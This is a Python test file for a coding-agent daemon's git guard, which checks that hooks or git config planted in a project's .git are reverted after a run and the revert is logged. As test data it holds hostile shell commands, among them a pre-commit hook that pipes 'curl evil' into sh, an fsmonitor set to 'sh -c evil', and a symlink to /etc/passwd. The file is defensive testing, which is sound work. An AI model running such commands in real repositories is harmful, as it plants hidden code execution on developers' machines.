"""A hook or git setting planted in a writable project's .git is put back after the run, and said so."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.daemon_harness import arun, collect_turn, submit, wait_until
from yagent.daemon.git_guard import WRITES_PROJECT, revert_changes, snapshot
from yagent.ipc.confinement import USERNS_ENV, landlock_abi
from yagent.workers.sandbox import writes_project
from yagent.workers.tools.profiles import PROFILES


def _repo(tmp_path: Path) -> Path:
    project = tmp_path / "project"
    project.mkdir()
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    return project


def test_the_daemon_checks_exactly_the_kinds_whose_profile_writes_the_project() -> None:
    assert {kind for kind in PROFILES if writes_project(kind)} == WRITES_PROJECT


@pytest.mark.parametrize("attack", [
    "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    "echo changed >> .git/hooks/pre-push.sample",
    "rm .git/hooks/pre-push.sample",
    "chmod 700 .git/hooks/pre-push.sample",
    "mkdir -p .git/hooks/sub && echo x > .git/hooks/sub/post-checkout",
    "mv .git/hooks .git/hooks.old && ln -s /tmp .git/hooks",
    "rm -rf .git/hooks",
    "git config core.hooksPath /tmp/planted",
    "git config core.fsmonitor 'sh -c evil'",
    "rm .git/config",
    "ln -sf /etc/passwd .git/config.tmp && mv .git/config.tmp .git/config",
    "mkdir -p ../evil && cp -r .git/. ../evil/ && echo \"$PWD/../evil\" > .git/commondir",  # redirects both
])
def test_every_change_to_hooks_or_config_is_reverted_and_named(tmp_path: Path, attack: str) -> None:
    project = _repo(tmp_path)
    before = {p: (p.read_bytes(), os.stat(p).st_mode) for p in sorted((project / ".git").glob("hooks/**/*"))
              if p.is_file()}
    config = (project / ".git" / "config").read_bytes()
    snap = snapshot(project)
    assert snap is not None
    subprocess.run(["sh", "-c", attack], cwd=project, check=True)
    reverted = revert_changes(snap)
    assert reverted, f"{attack!r} went unnoticed"
    after = {p: (p.read_bytes(), os.stat(p).st_mode) for p in sorted((project / ".git").glob("hooks/**/*"))
             if p.is_file()}
    assert after == before and not (project / ".git" / "hooks").is_symlink()
    assert (project / ".git" / "config").read_bytes() == config
    assert not (project / ".git" / "commondir").exists()
    assert revert_changes(snap) == []  # put back: a second look finds nothing


def test_no_git_dir_or_a_gitlink_is_nothing_to_guard(tmp_path: Path) -> None:
    assert snapshot(tmp_path) is None
    (tmp_path / ".git").write_text("gitdir: /elsewhere\n")
    assert snapshot(tmp_path) is None


@pytest.mark.skipif(landlock_abi() < 1, reason="this kernel has no Landlock")
def test_a_hook_a_coding_run_plants_is_gone_after_the_run_and_the_task_says_so(make_daemon, tmp_path: Path) -> None:
    """Where user namespaces are missing (the seam says so), check-and-revert is the only protection."""
    project = _repo(tmp_path)
    daemon = make_daemon('[daemon]\nagent_modules = ["tests.agents.scripted", "tests.agents.sandbox_probe"]\n'
                         "[sandbox]\nwritable_roots = []\n", env={USERNS_ENV: "0"})
    hook = project / ".git" / "hooks" / "pre-commit"
    ops = [["bash", f"echo 'touch {tmp_path}/pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"],
           ["bash", "git config core.hooksPath /tmp/planted"], ["write", str(project / "src.py")]]

    async def go() -> list:
        async with daemon.client() as c:
            sub = await submit(c, project, json.dumps(ops), agent="coding")
            return [sub.task, await collect_turn(c, sub.task)]

    _task, events = arun(go(), 120)
    probes = [e.data for e in events if e.type == "probe"]
    assert [p["ok"] for p in probes] == [True, True, True], probes  # Coding may write .git: it is put back
    wait_until(lambda: not hook.exists(), 30, "the planted hook to be removed after the run")
    assert (project / "src.py").exists()  # the run's real work stays
    assert "hooksPath" not in (project / ".git" / "config").read_text()
    wait_until(lambda: "put back as it was before the run" in daemon.log_path.read_text(), 30, "the daemon's note")
    assert "checked and put back after the run only" in daemon.log_path.read_text()  # which protection it got
    subprocess.run(["git", "-C", str(project), "commit", "-q", "--allow-empty", "-m", "x"], check=True,
                   env={**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
                        "GIT_COMMITTER_EMAIL": "t@t"})
    assert not (tmp_path / "pwned").exists()
